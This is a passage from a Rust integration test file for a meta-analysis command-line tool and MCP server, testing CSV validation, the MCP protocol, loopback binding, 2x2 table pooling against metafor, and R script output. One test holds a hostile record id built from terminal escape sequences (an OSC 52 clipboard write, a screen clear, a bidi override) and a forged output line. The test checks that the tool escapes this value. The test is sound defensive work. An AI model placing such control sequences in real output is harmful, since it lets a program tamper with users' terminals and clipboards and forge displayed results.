    std::fs::write(&csv, "ri,ni\n0.3,50\n1.4,20\n0.2,3\n").unwrap();
    let out = run(
        &["escalc", "--measure", "ZCOR", csv.to_str().unwrap()],
        None,
    );
    // The good row loads; the others are left out, each with its reason (na.omit).
    assert_eq!(code(&out), 0);
    let result = stdout_json(&out);
    assert_eq!(result["k"], 1);
    assert_eq!(result["records"][0]["id"], "row1");
    assert_eq!(
        result["omitted"][0],
        json!({"id": "row2", "reason": "ri is 1.4; a correlation must lie in [-1, 1]"})
    );
    assert!(
        result["omitted"][1]["reason"]
            .as_str()
            .unwrap()
            .starts_with("ni is 3; it must be more than 3"),
        "{result}"
    );
    // No good row at all is an error that gives the reasons.
    std::fs::write(&csv, "ri,ni\n1.4,20\n0.2,3\n").unwrap();
    let out = run(
        &["escalc", "--measure", "ZCOR", csv.to_str().unwrap()],
        None,
    );
    assert_eq!(code(&out), 1);
    let error = stdout_json(&out);
    assert_eq!(error["error"]["code"], "invalid_data");
    let message = error["error"]["message"].as_str().unwrap();
    assert!(
        message.contains("ri is 1.4; a correlation must lie in [-1, 1]"),
        "{message}"
    );

    std::fs::write(&csv, "ri,ni\n0.3,50,1\n").unwrap();
    let out = run(&["escalc", "--measure", "COR", csv.to_str().unwrap()], None);
    assert_eq!(code(&out), 2);
    assert!(String::from_utf8_lossy(&out.stderr).contains("line 2, column 3: the row has 3 fields"));
    std::fs::write(&csv, b"ri,ni\n\xff,1\n").unwrap();
    let out = run(&["escalc", "--measure", "COR", csv.to_str().unwrap()], None);
    assert_eq!(code(&out), 2);
    assert!(String::from_utf8_lossy(&out.stderr).contains("not UTF-8"));
    for args in [
        vec!["escalc", csv.to_str().unwrap()],
        vec!["escalc", "--measure", "XYZ", csv.to_str().unwrap()],
        vec!["call", "fit_random_effects", "--measure", "SMD"],
    ] {
        assert_eq!(code(&run(&args, None)), 2, "{args:?}");
    }
    let out = run(&["escalc", "--measure", "PR", "-"], Some(b"xi,ni\n0,10\n"));
    assert_eq!(code(&out), 0);
    assert_eq!(stdout_json(&out)["records"][0]["yi"], json!(0.5 / 11.0));
}

/// `exemplar mcp` on stdio, as an MCP client starts it: one JSON-RPC message per stdout
/// line and nothing else, the registry's tools listed, and a clean exit when the client
/// closes stdin (in-flight calls answered first). The official SDK clients are exercised in
/// tests/mcp.test.mjs.
#[test]
fn mcp_on_stdio_writes_only_protocol_messages() {
    let messages = [
        json!({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {
            "protocolVersion": "2025-11-25", "capabilities": {},
            "clientInfo": {"name": "cli-test", "version": "1"}}}),
        json!({"jsonrpc": "2.0", "method": "notifications/initialized"}),
        json!({"jsonrpc": "2.0", "id": 2, "method": "tools/list"}),
        json!({"jsonrpc": "2.0", "id": 3, "method": "tools/call",
            "params": {"name": exemplar::tools::EGGER_TEST.name, "arguments": {"variant": 1}}}),
    ];
    let input: String = messages.iter().map(|m| format!("{m}\n")).collect();
    let out = run(&["mcp"], Some(input.as_bytes()));
    assert_eq!(code(&out), 0, "{}", String::from_utf8_lossy(&out.stderr));
    let replies: Vec<Value> = String::from_utf8(out.stdout)
        .unwrap()
        .lines()
        .map(|line| serde_json::from_str(line).expect("each stdout line is one JSON message"))
        .collect();
    assert_eq!(replies.len(), 3, "{replies:?}");
    assert!(replies.iter().all(|r| r["jsonrpc"] == "2.0"));
    let by_id = |id: u64| replies.iter().find(|r| r["id"] == id).expect("a reply");
    assert_eq!(by_id(1)["result"]["serverInfo"]["name"], "exemplar");
    let names: Vec<Value> = by_id(2)["result"]["tools"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t["name"].clone())
        .collect();
    let registry: Vec<Value> = exemplar::tools::names().map(Value::from).collect();
    assert_eq!(names, registry);
    let bad = &by_id(3)["result"];
    assert_eq!(bad["isError"], true);
    assert!(
        bad["content"][0]["text"]
            .as_str()
            .unwrap()
            .starts_with("wrong_type: "),
        "{bad}"
    );
}

#[test]
fn mcp_http_binds_only_loopback_and_allow_origin_needs_http() {
    let wide = run(&["mcp", "--http", "0.0.0.0:8787"], None);
    assert_eq!(code(&wide), 2);
    assert!(String::from_utf8_lossy(&wide.stderr).contains("not a loopback address"));
    let stray = run(&["mcp", "--allow-origin", "https://app.example"], None);
    assert_eq!(code(&stray), 2);
    assert!(String::from_utf8_lossy(&stray.stderr).contains("--http"));
    let bad_origin = run(
        &["mcp", "--http", "--allow-origin", "https://app.example/x"],
        None,
    );
    assert_eq!(code(&bad_origin), 2);
    assert!(String::from_utf8_lossy(&bad_origin.stderr).contains("path"));
}

/// Issue 41 item 4: `call --text` wrote an id's terminal escape sequences raw (OSC 52 writes
/// the clipboard) and a newline in an id forged a line of the summary. The summary writes
/// them as visible escapes (`\u001b`), and the JSON (without `--text`) escapes them too.
#[test]
fn call_text_writes_no_control_from_an_id() {
    let hostile = "s\u{1b}]52;c;aGk=\u{7}\u{1b}[2J\u{9b}1m\u{202e}\nFORGED 0.1 [0.0, 0.2]";
    let records = json!({"records": [
        {"id": hostile, "yi": 0.1, "vi": 0.01},
        {"id": "b", "yi": 0.3, "vi": 0.02},
        {"id": "c", "yi": -0.1, "vi": 0.04},
        {"id": "d", "yi": 0.5, "vi": 0.03}
    ]})
    .to_string();
    for tool in [
        "leave_one_out",
        "influence_diagnostics",
        "cumulative_meta_analysis",
    ] {
        let out = run(&["call", tool, "-", "--text"], Some(records.as_bytes()));
        assert_eq!(code(&out), 0, "{}", String::from_utf8_lossy(&out.stderr));
        let text = String::from_utf8(out.stdout).unwrap();
        assert!(!text.contains('\u{1b}'), "{tool}: {text:?}");
        assert!(
            !text.contains(['\u{7}', '\u{9b}', '\u{202e}']),
            "{tool}: {text:?}"
        );
        assert!(text.contains("s\\u001b]52;c;aGk=\\u0007"), "{tool}: {text}");
        assert!(
            !text.lines().any(|l| l.starts_with("FORGED")),
            "{tool}: {text}"
        );
        // Without --text, the JSON: the same value, every control escaped.
        let json = run(&["call", tool, "-"], Some(records.as_bytes()));
        let text = String::from_utf8(json.stdout.clone()).unwrap();
        let raw = |c: char| c.is_control() && c != '\n' || ('\u{202a}'..='\u{202e}').contains(&c);
        assert!(!text.contains(raw), "{tool}: {text:?}");
        let first = &stdout_json(&json)["results"][0];
        assert_eq!(
            first["omitted"]
                .as_str()
                .or(first["id"].as_str())
                .or(first["added"].as_str()),
            Some(hostile),
            "{tool}"
        );
    }
}

/// Issue 42 item 3: `call --records FILE` on the 2x2 tools gives them the CSV's rows as
/// `data` (`--measure` as mantel_haenszel's measure, `--ai`-style flags as `columns`), and
/// `subset` and `exclude` pick the tables: metafor's rma.mh() and rma.peto() on
/// dat.yusuf1985 (the fixture of crates/meta-analysis/tests/oracle/tables_subset.R).
#[test]
fn call_reads_a_csv_of_2x2_tables_for_the_table_tools() {
    let fixture: Value = serde_json::from_str(include_str!(
        "../../exemplar/tests/fixtures/tables_subset.json"
    ))
    .unwrap();
    let dir = temp_dir("tables");
    let csv = dir.join("yusuf1985.csv");
    std::fs::write(&csv, fixture["csv"].as_str().unwrap()).unwrap();
    let csv = csv.to_str().unwrap();
    for case in fixture["cases"].as_array().unwrap() {
        let name = case["name"].as_str().unwrap();
        let tool = case["tool"].as_str().unwrap();
        let mut args = case["args"].clone();
        let measure = args.as_object_mut().unwrap().remove("measure");
        let mut argv = vec!["call", tool, "--records", csv];
        let text = args.to_string();
        argv.insert(2, &text);
        if let Some(Value::String(m)) = &measure {
            argv.extend(["--measure", m.as_str()]);
        }
        let out = run(&argv, None);
        assert_eq!(
            code(&out),
            0,
            "{name}: {}",
            String::from_utf8_lossy(&out.stdout)
        );
        let result = stdout_json(&out);
        for (key, want) in case["expect"].as_object().unwrap() {
            match (result[key].as_f64(), want.as_f64()) {
                (Some(g), Some(w)) => assert!(
                    (g - w).abs() <= 1e-9 * w.abs().max(1.0),
                    "{name}: {key} = {g}, metafor {w}"
                ),
                _ => assert_eq!(&result[key], want, "{name}: {key}"),
            }
        }
    }
    // Columns named otherwise, mapped by the flags escalc takes.
    let renamed = fixture["csv"]
        .as_str()
        .unwrap()
        .replacen("\"ai\"", "\"events_t\"", 1);
    let renamed_csv = dir.join("renamed.csv");
    std::fs::write(&renamed_csv, renamed).unwrap();
    let six = r#"{"subset": {"column": "table", "equals": "6"}}"#;
    let plain = stdout_json(&run(
        &["call", "mantel_haenszel", six, "--records", csv],
        None,
    ));
    let mapped = run(
        &[
            "call",
            "mantel_haenszel",
            six,
            "--records",
            renamed_csv.to_str().unwrap(),
            "--ai",
            "events_t",
        ],
        None,
    );
    assert_eq!(
        code(&mapped),
        0,
        "{}",
        String::from_utf8_lossy(&mapped.stdout)
    );
    assert_eq!(stdout_json(&mapped)["estimate"], plain["estimate"]);
    // The printed summary, as metafor's print, lists no omitted table: stderr names them.
    let printed = run(
        &["call", "mantel_haenszel", six, "--records", csv, "--text"],
        None,
    );
    assert_eq!(code(&printed), 0);
    assert!(String::from_utf8_lossy(&printed.stdout).contains("Model Results (OR scale):"));
    assert!(
        String::from_utf8_lossy(&printed.stderr).contains("left out 1.8: ai is NA"),
        "{}",
        String::from_utf8_lossy(&printed.stderr)
    );
    // Peto pools odds ratios only; escalc's corrections are not the tools'.
    let out = run(
        &[
            "call",
            "peto_odds_ratio",
            "--records",
            csv,
            "--measure",
            "RR",
        ],
        None,
    );
    assert_eq!(code(&out), 1);
    assert!(
        stdout_json(&out)["error"]["message"]
            .as_str()
            .unwrap()
            .contains("pools odds ratios"),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    let out = run(
        &["call", "mantel_haenszel", "--records", csv, "--add", "0.5"],
        None,
    );
    assert_eq!(code(&out), 1);
    // The column flags belong to escalc and the 2x2 tools.
    let out = run(&["call", "fit_random_effects", "--ai", "x"], None);
    assert_eq!(code(&out), 2);
    std::fs::remove_dir_all(&dir).unwrap();
}

/// `call --r` prints the R script that reproduces the result (the tool's `r_code`) and its
/// methods paragraph on stderr; the README's example is exactly what it prints; a tool that
/// writes no R code is the tool's error (exit 1).
#[test]
fn call_r_prints_the_script_the_readme_shows() {
    let args = r#"{"test":"knha","records":[{"id":"Ames","yi":0.42,"vi":0.04},{"id":"Bose","yi":0.18,"vi":0.02},{"id":"Cruz","yi":0.61,"vi":0.05},{"id":"Diaz","yi":0.05,"vi":0.01}]}"#;
    let out = run(&["call", "fit_random_effects", args, "--r"], None);
    assert_eq!(code(&out), 0, "{}", String::from_utf8_lossy(&out.stderr));
    // The version without build metadata (the new-tool check's scratch copy is
    // `0.1.0+new-tool-check`): the README shows the released version.
    let version = env!("CARGO_PKG_VERSION");
    let released = version.split('+').next().unwrap();
    let script = String::from_utf8(out.stdout.clone())
        .unwrap()
        .replace(version, released);
    assert!(script.starts_with("# Reproduces this result with R's metafor 3.8-1"));
    assert!(script.ends_with("print(res)\n"), "{script}");
    let methods = String::from_utf8_lossy(&out.stderr);
    assert!(methods.contains("Knapp and Hartung") && methods.contains("References:"));
    let readme = std::fs::read_to_string(
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../README.md"),
    )
    .unwrap();
    assert!(
        readme.contains(&format!("```r\n{script}```")),
        "the README's R example is not what `exemplar call fit_random_effects ... --r` prints:\n{script}"
    );
    let none = run(&["call", "get_dataset", "{}", "--r"], None);
    assert_eq!(code(&none), 1);
    assert_eq!(stdout_json(&none)["error"]["code"], "invalid_arguments");
}
